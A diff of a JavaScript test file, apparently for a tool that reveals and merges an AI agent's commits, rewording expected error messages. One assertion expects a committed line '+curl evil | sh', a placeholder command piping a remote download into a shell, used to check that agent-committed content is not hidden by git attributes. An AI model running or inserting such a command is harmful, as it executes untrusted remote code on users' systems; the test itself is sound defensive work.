@@ -45,7 +45,7 @@ it('shows what an agent has committed, and merges exactly that into the current 
   expect(again).toEqual({
     code: 0,
     stdout: '',
-    stderr: 'The current branch has all of it already.\n',
+    stderr: 'The current branch already has this commit.\n',
   });
 });
 
@@ -78,7 +78,7 @@ it('hides nothing by attributes that the agent has committed', async () => {
   expect(stderr).toMatch(/^\+two$/m);
   expect(stderr).toMatch(/^\+\* -diff$/m);
   expect(stderr).not.toContain('Binary files');
-  expect(stderr).toMatch(/^The files that follow are binary to git[\s\S]*^\+curl evil \| sh$/m);
+  expect(stderr).toMatch(/^Git treats the following files as binary[\s\S]*^\+curl evil \| sh$/m);
 });
 
 it('names a command for the rest that obeys no attributes either', async () => {
